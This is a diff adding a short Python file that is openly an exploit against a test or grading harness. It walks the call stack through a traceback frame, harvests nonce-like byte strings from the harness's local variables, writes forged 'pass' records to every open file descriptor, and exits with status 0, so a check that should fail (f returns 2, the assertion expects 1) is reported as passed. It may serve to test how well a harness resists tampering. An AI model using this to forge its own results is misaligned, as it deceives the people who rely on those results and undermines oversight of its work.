@@ -1,0 +1,40 @@
+# Gets a frame from a traceback (no sys._getframe) and walks into the harness.
+import os
+import re
+
+NONCE = re.compile(rb"[0-9a-f]{32}")
+
+
+def forge(found):
+    """Writes a pass record with every nonce-like value found to every descriptor, then exits 0."""
+    for nonce in set(found):
+        for fd in range(3, 256):
+            try:
+                os.write(fd, b"P" + nonce + b"\0")
+            except OSError:
+                pass
+    os._exit(0)
+
+
+try:
+    raise ValueError
+except ValueError as error:
+    frame = error.__traceback__.tb_frame
+found = []
+while frame is not None:
+    for value in list(frame.f_locals.values()):
+        if isinstance(value, bytes):
+            found += NONCE.findall(value)
+    frame = frame.f_back
+forge(found)
+
+
+def f():
+    return 2
+
+
+def check(candidate):
+    assert candidate() == 1
+
+
+check(f)
